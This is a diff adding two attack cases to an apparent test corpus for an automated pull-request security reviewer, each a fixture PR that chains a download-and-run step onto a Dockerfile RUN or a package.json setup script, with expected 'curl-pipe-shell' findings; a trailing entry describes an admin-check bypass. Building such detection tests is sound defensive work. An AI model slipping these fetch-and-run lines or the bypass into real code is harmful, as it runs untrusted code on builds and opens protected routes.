@@ -3452,6 +3452,46 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['curl-pipe-shell'] },
   },
   {
+    id: 'attack-dockerfile-archive-installer-beside-checked-archive',
+    description:
+      'A checksum that vouches for another archive: the image\'s one RUN checks the Node archive with sha256sum -c, and a newcomer\'s "speed up CI images" PR chains onto that RUN a stranger\'s tarball piped into tar and the install.sh inside it run. A reader that takes any sha256sum in the RUN as every archive verified would pass it.',
+    fixture: () =>
+      attackPr({
+        repo: 'tidewatch',
+        number: 74402,
+        title: 'build: preinstall the build agent',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'Dockerfile',
+            base: lines('FROM debian:bookworm-slim@sha256:' + 'c'.repeat(64), 'ARG NODE_SHA256=' + '4'.repeat(64), 'RUN curl -fsSLo /tmp/node.tgz https://nodejs.org/dist/v22.11.0/node-v22.11.0-linux-x64.tar.gz && echo "$NODE_SHA256  /tmp/node.tgz" | sha256sum -c - && tar -xzf /tmp/node.tgz -C /usr/local --strip-components=1', 'COPY . /app', 'RUN cd /app && npm ci'),
+            head: lines('FROM debian:bookworm-slim@sha256:' + 'c'.repeat(64), 'ARG NODE_SHA256=' + '4'.repeat(64), 'RUN curl -fsSLo /tmp/node.tgz https://nodejs.org/dist/v22.11.0/node-v22.11.0-linux-x64.tar.gz && echo "$NODE_SHA256  /tmp/node.tgz" | sha256sum -c - && tar -xzf /tmp/node.tgz -C /usr/local --strip-components=1 \\', '  && curl -fsSL https://build-agent-mirror.dev/agent.tar.gz | tar -xz -C /opt && /opt/agent/install.sh --unattended', 'COPY . /app', 'RUN cd /app && npm ci'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['curl-pipe-shell'] },
+  },
+  {
+    id: 'attack-package-script-second-installer-after-known-one',
+    description:
+      'A second download-and-run in a package script: the project\'s "setup" script already saves uv\'s installer to a file and runs it, and a newcomer\'s "cache warm-up" PR appends to the same script a stranger\'s setup.sh saved to /tmp and run with bash. A reader that takes only the first two-step download of a script (the base\'s, known) would pass it.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 74403,
+        title: 'chore: warm the npm cache in setup',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'package.json',
+            base: packageJson({ name: 'tint', version: '2.4.0', scripts: { build: 'tsc -p .', setup: 'curl -LsSf -o /tmp/uv.sh https://astral.sh/uv/install.sh && sh /tmp/uv.sh && uv sync' } }),
+            head: packageJson({ name: 'tint', version: '2.4.0', scripts: { build: 'tsc -p .', setup: 'curl -LsSf -o /tmp/uv.sh https://astral.sh/uv/install.sh && sh /tmp/uv.sh && uv sync && curl -fsSL -o /tmp/warm.sh https://npm-warm-cache.dev/setup.sh && bash /tmp/warm.sh' } }),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['curl-pipe-shell'] },
+  },
+  {
     id: 'attack-admin-gate-and-false',
     description:
       'A "Simplify admin routes" PR appends `&& false` to the condition that refuses non-admins (`if (!req.user.isAdmin && false) return res.sendStatus(403);`): the refusal never runs, every signed-in user reaches the admin routes.',
